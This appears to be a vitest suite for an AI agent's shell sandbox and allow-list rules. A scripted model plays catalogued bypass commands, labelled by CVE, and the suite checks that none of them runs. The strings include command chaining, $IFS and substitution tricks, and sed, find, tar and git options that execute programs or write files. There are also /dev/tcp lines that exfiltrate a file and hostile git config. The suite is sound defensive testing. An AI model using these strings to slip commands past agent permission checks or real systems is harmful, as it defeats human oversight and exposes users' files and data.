import { execFileSync, spawnSync } from "node:child_process";
import { once } from "node:events";
import { cpSync, existsSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { connect, createServer } from "node:net";
import { join } from "node:path";
import { afterAll, describe, expect, test } from "vitest";
import { createNodeHost } from "../../src/host/node-host.ts";
import { run } from "../../src/index.ts";
import type { JsonObject } from "../../src/protocol/json.ts";
import { scriptedModel } from "../../src/testing/index.ts";
import { noWall, testPath } from "../host/command-bench.ts";
import { createHostileFolder } from "../shell/hostile-folder.ts";
import { bash, Machine } from "../shell/machine.ts";

/*
 * Ways in which commands got past others' rules. Each is played by a model in a whole run, with nobody to ask: what is not
 * allowed does not run. Then nothing may have changed, inside the folder or outside. The same line, given to bash, must do
 * harm, or the test would prove nothing.
 */

interface Row {
  readonly title: string;
  /** Patterns of rules that allow without a question. */
  readonly rules: readonly string[];
  /** `§` is a file that the attack would make or change. */
  readonly attacks: readonly (string | Attack)[];
  /** Files of the folder before the command. */
  readonly prepare?: (folder: string) => void;
}

interface Attack {
  readonly command: string;
  /** As the model gives it. */
  readonly cwd?: string;
}

const readers = "echo cat ls head wc grep find sed awk sort uniq tar printf test date stat xargs man tee".split(" ");
const longest = (count: number, last: string) => [...Array.from({ length: count }, () => "echo a"), last].join("; ");
const config = (...entries: (readonly [string, string])[]) => {
  return (folder: string) => {
    for (const [key, value] of entries) execFileSync("git", ["-C", folder, "config", key, value]);
  };
};
const attributes = (folder: string) => {
  execFileSync("bash", ["-c", "echo '*.txt diff=x filter=x' > .gitattributes; echo changed >> notes.txt"], { cwd: folder });
};

const rows: Readonly<Record<string, Row>> = {
  "CVE-2025-54795": {
    title: "text behind an allowed echo",
    rules: ["echo"],
    attacks: [
      'echo "x"; touch §',
      "echo x && touch §",
      "echo x || true; touch §",
      "echo x | touch §",
      "echo x\ntouch §",
      'echo "\\"; touch §; echo \\""; touch §',
      "echo $(touch §)",
      "echo `touch §`",
      'echo "$(touch §)"',
    ],
  },
  "CVE-2025-55284": {
    title: "broad readers carry a file out",
    rules: readers,
    attacks: [
      { command: "cat ../outside/file > §" },
      { command: "cat notes.txt > /dev/tcp/127.0.0.1/PORT" },
      { command: "exec 3<>/dev/tcp/127.0.0.1/PORT; cat notes.txt >&3" },
    ],
  },
  "CVE-2025-58764": {
    title: "options that run a program",
    rules: [...readers, "git"],
    attacks: [
      "sort -S 1 --compress-program=./evil big",
      "sort -S 1 --compress-prog ./evil big",
      "git grep -O./evil x",
      "tar -cf /dev/null notes.txt --checkpoint=1 --checkpoint-action=exec=./evil",
      "tar -tf a.tar --use-compress-program=./evil",
      "tar -xf a.tar --to-command='touch §'",
      "xargs -a notes.txt touch",
      "find . -maxdepth 0 -exec touch § \\;",
    ],
    prepare: (folder) => execFileSync("bash", ["-c", "seq 300 > big"], { cwd: folder }),
  },
  "CVE-2025-66032": {
    title: "$IFS and short options",
    rules: readers,
    attacks: [
      "touch$IFS./§",
      "touch${IFS}§",
      "sort -o § notes.txt",
      "sort -uo§ notes.txt",
      "sort --outp=§ notes.txt",
      "find . ${x--fprint} §",
      "find .${IFS}-maxdepth${IFS}0${IFS}-fprint${IFS}§",
    ],
  },
  "CVE-2025-64755, CVE-2026-25723": {
    title: "sed writes, also what a pipe brings",
    rules: readers,
    attacks: [
      "sed 'w §' notes.txt",
      "sed -n '1w §' notes.txt",
      "sed 's/x/y/w §' notes.txt",
      "sed '1e touch §' notes.txt",
      "sed 's/.*/touch §/e' notes.txt",
      "echo 'touch §' | sed e",
      "echo 'w §' | sed -f /dev/stdin notes.txt",
      "sed -i s/x/changed/ notes.txt",
      "sed -n -i.bak p notes.txt",
      "sed --in-pl s/x/changed/ notes.txt",
    ],
  },
  "CVE-2026-24887": {
    title: "find executes, writes and deletes under a rule for find",
    rules: ["find"],
    attacks: [
      "find . -maxdepth 0 -exec touch § \\;",
      "find . -maxdepth 0 -execdir touch § \\;",
      "find . -maxdepth 0 -exec sh -c 'touch §' \\;",
      "find . -name notes.txt -delete",
      "find . -fprint §",
      "find . -fls §",
      'find . -maxdepth 0 -"exec" touch § \\;',
      "find . -name notes.txt -del\\ete",
    ],
  },
  "CVE-2026-24053": {
    title: "what another shell, or the same one, reads otherwise",
    rules: ["echo", "cat"],
    attacks: ["echo x >&§", "echo x &>§", "echo x >|§", "echo x >!§ && cat !§", "echo x 1<>§", "echo x >§$(true)"],
  },
  "CVE-2026-25722": {
    title: "cd into a protected folder, then write there",
    rules: ["cd", "tee", "echo"],
    attacks: [
      "cd .git && echo x | tee config",
      "cd .git; echo x | tee §",
      "(cd .git && echo x | tee hooks/pre-commit)",
      "cd src && cd ../.git && echo x | tee §",
      { command: "echo x | tee §", cwd: "work/.git" },
    ],
  },
  "CVE-2026-25724": {
    title: "a link stands where the file should",
    rules: ["cat", "tee", "cp", "touch"],
    attacks: ["tee link < notes.txt", "cp notes.txt link", "cat notes.txt > link", "touch folder/new"],
    prepare: (folder) => {
      execFileSync("bash", ["-c", "ln -s ../outside/file link; ln -s ../outside folder"], { cwd: folder });
    },
  },
  "CVE-2026-25725": {
    title: "protected names that do not exist yet",
    rules: ["touch", "tee", "cp", "mkdir"],
    attacks: [
      "touch .npmrc",
      "mkdir .husky",
      "cp notes.txt .envrc",
      "touch tools.js",
      "touch x.worker",
      "touch .ENV.local",
      "mkdir -p .github/workflows",
    ],
  },
  "logs 2.1.6 to 2.1.223": {
    title: "line continuation, here-documents, backslashes, descriptors, redirections in lists, blanks that are none",
    rules: ["echo", "cat", "git", "find"],
    attacks: [
      "to\\\nuch §",
      "echo x \\\n; touch §",
      "git log --out\\put=§",
      "cat <<EOF\n$(touch §)\nEOF",
      "cat <<'EOF'\nx\nEOF\ntouch §",
      'cat <<"EO"F\nx\nEOF\ntouch §',
      "cat <<-EOF\n\tx\n\tEOF\ntouch §",
      "cat <<A <<'B'\nx\nA\ny\nB\ntouch §",
      "echo x 3>§ >&3",
      "echo x {fd}>§",
      "echo a > § && echo b",
      "echo a && echo b >> §",
      "{ echo a; } >> §",
      "> §",
      "cat notes.txt\u00a0|| touch §",
    ],
  },
  "logs 2.1.113 to 2.1.236": {
    title: "a comment first, padding, characters that nobody sees",
    rules: ["echo"],
    attacks: [
      "# only looks\ntouch §",
      `echo x${" ".repeat(500)}; touch §`,
      `echo x${"\n".repeat(50)}touch §`,
      "echo x #\u200b\ntouch §",
      "echo \u202e; touch §",
    ],
  },
  "50 parts": {
    title: "a limit that makes the verdict laxer",
    rules: ["echo"],
    attacks: [longest(51, "touch §"), longest(99, "touch §"), longest(150, "touch §"), `echo ${"a".repeat(12_000)}; touch §`],
  },
  "CVE-2025-59532": {
    title: "the model chooses the folder",
    rules: ["touch", "ls"],
    attacks: [
      { command: "touch §", cwd: "work/../outside" },
      { command: "touch §", cwd: "OUTSIDE" },
      { command: "touch §", cwd: "work/docs" },
      { command: "touch ../§" },
    ],
  },
  "CVE-2026-19592, CVE-2026-19593": {
    title: "git runs what a repository's configuration names",
    rules: ["git", "git add"],
    attacks: ["git status", "git diff", "git -C src status"],
    prepare: config(["core.fsmonitor", "./evil"]),
  },
  "CVE-2026-19592, drivers": {
    title: "git runs filters and drivers",
    rules: ["git add", "git"],
    attacks: ["git diff", "git show HEAD:notes.txt --textconv", "git log -p", "git add notes.txt"],
    prepare: (folder) => {
      attributes(folder);
      config(["diff.x.textconv", "touch canary;cat"], ["filter.x.clean", "touch canary;cat"])(folder);
    },
  },
  "CVE-2026-19593, command line": {
    title: "git runs what the command line names",
    rules: ["git"],
    attacks: [
      "git -c core.fsmonitor=./evil status",
      "git -c alias.x='!touch §' x",
      "git --exec-path=. evil",
      "GIT_EXTERNAL_DIFF=./evil git diff HEAD",
      "git diff --no-index --ext-diff notes.txt README.md > §",
    ],
    prepare: (folder) => {
      execFileSync("bash", ["-c", "cp evil git-evil; echo changed >> notes.txt"], { cwd: folder });
      config(["user.name", "a"], ["user.email", "a@b"])(folder);
    },
  },
  "CVE-2025-68144": {
    title: "values that begin with a dash",
    rules: ["git", "wc"],
    attacks: [
      "git log --output=§",
      "git diff --output § HEAD~0 HEAD",
      "git show --output=§ HEAD",
      'git diff "--output=§" HEAD',
      "x=--output=§; git log $x",
    ],
  },
  "CVE-2025-57771, 58370, 65946, CVE-2026-110206": {
    title: "a single &, process substitution, substitution in the program's place",
    rules: ["echo", "cat"],
    attacks: [
      "echo x & touch §",
      "echo x & touch § & wait",
      "cat <(touch §)",
      "echo x > >(tee §) | cat",
      "$(echo touch) §",
      "`echo touch` §",
      "{touch,§}",
      "t=touch; $t §",
      'x=y; y="\\$(touch §)"; echo ${!x@P}',
      "echo ${z:=$(touch §)}",
      "echo $((1+$(touch §; echo 1)))",
    ],
  },
  "CVE-2026-22708": {
    title: "built-ins and assignments prepare the ground for what is allowed",
    rules: ["git", "ls", "echo", "printf", "test"],
    attacks: [
      "export GIT_EXTERNAL_DIFF=./evil; git diff",
      "typeset -x GIT_EXTERNAL_DIFF=./evil; git diff",
      "declare -x PATH=.:$PATH; evil",
      "PATH=.:$PATH; hash -r; evil",
      "shopt -s expand_aliases\nalias ls=./evil\nls",
      "ls() { touch §; }; ls",
      "trap 'touch §' EXIT",
      "eval 'touch §'",
      "source ./evil",
      ". ./evil",
      "exec touch §",
      "hash -p ./evil ls; ls",
      "command touch §",
      "printf -v 'a[$(touch §)]' x",
      "test -v 'a[$(touch §)]'",
      "a[$(touch §)]=1",
      "(( a[$(touch §)] ))",
      "mapfile -C 'touch §' -c 1 x < notes.txt",
      "enable -n echo; ./evil",
    ],
    prepare: (folder) => execFileSync("bash", ["-c", "echo changed >> notes.txt"], { cwd: folder }),
  },
  "CVE-2026-30305, CVE-2026-30314": {
    title: "a substitution in an allowed option",
    rules: ["git log"],
    attacks: ['git log --grep="$(touch §)"', "git log --grep=`touch §`", 'git log --grep="${x:-$(touch §)}"'],
  },
  "gemini-cli 11510, 11766": {
    title: "only the first command was looked at",
    rules: ["git status", "git log"],
    attacks: ["git status; touch §", "git status && git tag made", "git log | tee §", "git status\ngit branch made"],
  },
};

const machines: Machine[] = [];
afterAll(() => {
  for (const machine of machines) machine.remove();
});

function create({ rules, prepare }: Row): Machine {
  const machine = createHostileFolder();
  machines.push(machine);
  const allowed = rules.map((pattern) => `      - { pattern: ${JSON.stringify(pattern)}, approval_required: false }`);
  const scopes = "sandbox: { paths: { work: { root: ., mode: rw }, docs: { root: ./docs } } }";
  machine.put("work/main.worker", `---\n${scopes}\ntoolsets:\n  shell:\n    rules:\n${allowed.join("\n")}\n---\nGo.\n`);
  machine.put("outside/file", "untouched\n");
  prepare?.(join(machine.root, "work"));
  return machine;
}

/** All but what runs and the state of git's cache of files. */
function state(machine: Machine): string {
  const kept = Object.entries(machine.snapshot()).filter(
    ([name]) => !/^(?:state|home)(?:\/|$)|\/\.llm-do|\.git\/index$/.test(name),
  );
  return JSON.stringify(kept);
}

/** The attacks of a row as calls, one a turn. */
function toCalls({ attacks }: Row, machine: Machine, port: number): readonly JsonObject[] {
  return attacks.map((one) => {
    const { command, cwd } = typeof one === "string" ? { command: one, cwd: undefined } : one;
    const text = command.replaceAll("§", "canary").replaceAll("PORT", String(port));
    return {
      command: text,
      timeout: 10,
      ...(cwd === undefined ? {} : { cwd: cwd.replace("OUTSIDE", join(machine.root, "outside")) }),
    };
  });
}

async function play(machine: Machine, calls: readonly JsonObject[]): Promise<readonly string[]> {
  const outcomes: string[] = [];
  const model = scriptedModel(({ turn, toolResults }) => {
    for (const { result } of toolResults()) outcomes.push(result.ok ? "ran" : result.error.type);
    const args = calls[turn - 1];
    return args === undefined ? "done" : { calls: [{ tool: "shell", args }] };
  }, "test:model");
  const work = join(machine.root, "work");
  const environment = { PATH: testPath, LLM_DO_STATE_DIR: join(machine.root, "state") };
  await run({
    target: work,
    input: "go",
    approval: { mode: "prompt" },
    trust: true,
    journal: false,
    host: createNodeHost({ environment, workingDirectory: work, homeDirectory: join(machine.root, "home") }),
    model: "test:model",
    providers: [{ name: "test", description: "for tests", keyVariables: [], create: async () => model }],
  });
  return outcomes;
}

/** The calls of a row whose harm is shown: each third one; all where `LLM_DO_COMMANDS` is `all`. */
function shown(calls: readonly JsonObject[]): readonly JsonObject[] {
  return calls.filter((_, index) => index % 3 === 1 || process.env["LLM_DO_COMMANDS"] === "all");
}

/** In a copy of its own for each. */
function playUnguarded(machine: Machine, { command, cwd = "work" }: JsonObject): boolean {
  const copy = new Machine();
  try {
    rmSync(copy.root, { recursive: true });
    cpSync(machine.root, copy.root, { recursive: true, verbatimSymlinks: true });
    for (const script of ["evil", "src/evil", "home/evil", "scripts/build.sh", "git-evil", ".git/hooks/pre-commit"])
      redirect(script, machine, copy);
    const before = state(copy);
    const folder = String(cwd).startsWith("/") ? join(copy.root, "outside") : join(copy.root, String(cwd));
    const [program, ...args] = [...bash, String(command).replaceAll(machine.root, copy.root)];
    const env = { PATH: testPath, HOME: join(copy.root, "home"), LANG: "C.UTF-8" };
    spawnSync(program ?? "", args, { cwd: folder, env, timeout: 5000, stdio: "ignore" });
    return state(copy) !== before;
  } finally {
    copy.remove();
  }
}

/** Connects, and resolves when the server has taken this connection: it has taken all earlier ones by then. */
async function knock(port: number): Promise<void> {
  await once(connect(port, "127.0.0.1"), "close");
}

/** A script of the folder that knows where it lies. */
function redirect(path: string, from: Machine, to: Machine): void {
  const file = join(to.root, "work", path);
  if (existsSync(file)) writeFileSync(file, readFileSync(file, "utf8").replaceAll(from.root, to.root));
}

describe.skipIf(noWall !== "")("commands", () => {
  test.each(Object.entries(rows))("%s", { timeout: 120_000 }, async (_, row) => {
    let heard = 0;
    const server = createServer((socket) => {
      heard++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const { port } = server.address() as { port: number };
    try {
      const machine = create(row);
      const calls = toCalls(row, machine, port);
      const before = state(machine);
      const outcomes = await play(machine, calls);
      expect(outcomes).toHaveLength(calls.length);
      expect(state(machine), row.title).toBe(before);
      await knock(port);
      expect(heard).toBe(1);
      const harmless = shown(calls).filter((call) => !playUnguarded(machine, call));
      await knock(port);
      expect(harmless.filter(({ command }) => !String(command).includes("/dev/tcp/")).map(({ command }) => command)).toEqual([]);
      if (harmless.length > 0) expect(heard).toBe(2 + harmless.length);
    } finally {
      server.close();
    }
  });

  test("CVE-2026-19592, hooks: a commit that a rule allows is made, and runs none", { timeout: 60_000 }, async () => {
    const machine = create({
      title: "",
      rules: ["git commit"],
      attacks: [],
      prepare: config(["user.name", "a"], ["user.email", "a@b"]),
    });
    machine.put("work/.git/hooks/pre-commit", `#!/bin/sh\ntouch "${machine.root}/work/canary"\n`, 0o755);
    machine.put(
      "work/main.worker",
      `---
sandbox: { paths: { work: { root: ., mode: rw } } }
toolsets: { shell: { rules: [{ pattern: git commit, writes: [work], opens: [.git], approval_required: false }] } }
---
Go.
`,
    );
    const command = "git commit --allow-empty -m made";
    const log = () => execFileSync("git", ["-C", join(machine.root, "work"), "log", "--format=%s"]).toString();
    expect(await play(machine, [{ command, writes: ["work"], opens: [".git"] }])).toEqual(["ran"]);
    expect(log()).toBe("made\nx\n");
    const canary = join(machine.root, "work/canary");
    expect(existsSync(canary)).toBe(false);
    execFileSync("bash", ["-c", command], { cwd: join(machine.root, "work"), stdio: "ignore" });
    expect(existsSync(canary)).toBe(true);
  });
});
